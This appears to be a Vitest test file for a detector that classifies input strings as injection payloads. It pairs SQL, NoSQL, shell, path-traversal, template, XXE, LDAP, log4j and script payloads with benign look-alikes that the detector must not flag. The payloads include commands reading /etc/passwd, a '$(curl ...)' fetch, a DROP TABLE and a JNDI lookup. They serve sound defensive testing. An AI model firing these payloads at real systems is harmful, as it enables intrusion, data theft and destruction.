import { expect, test } from 'vitest';
import { findPayload } from '#shared/engine/detectors/probes/payloads.ts';

test.each([
  ["1' OR '1'='1", 'SQL'],
  ['1%2527%2520or%25201=1', 'SQL'],
  ['x UNION/**/SELECT password FROM users', 'SQL'],
  ["admin'--", 'SQL'],
  ['1; DROP TABLE users', 'SQL'],
  ['{"$ne": null}', 'NoSQL'],
  ['a; cat /etc/passwd', 'shell command'],
  ['$(curl http://x)', 'shell command'],
  ['../../../../etc/passwd', 'path traversal'],
  ['..%2f..%2fwin.ini', 'path traversal'],
  ['{{7*7}}', 'template'],
  ['<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>', 'XML entity'],
  ['*)(uid=*', 'LDAP'],
  ['${jndi:ldap://x/a}', 'log4j'],
  ['&lt;script&gt;alert(1)&lt;/script&gt;', 'script'],
  ['JyBVTklPTiBTRUxFQ1QgKiBGUk9NIHVzZXJz', 'SQL'],
])('%s is %s', (text, kind) => {
  expect(findPayload(text)?.kind).toBe(kind);
});

test.each([
  "O'Brien",
  'select a size',
  'Rock & Roll; the best of',
  '{{name}}',
  'price < 100 and colour = red',
  '50% off (today only)',
  'https://shop.example/a?b=c&d=e',
  'created_at>=2026-01-01',
  'sort=-date,name',
  "it's this or that",
  '$filter=status eq open',
  'eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.x',
  'Mike & Ike | id 5',
  '*.example.com',
])('%s is plain', (text) => {
  expect(findPayload(text)).toBeUndefined();
});
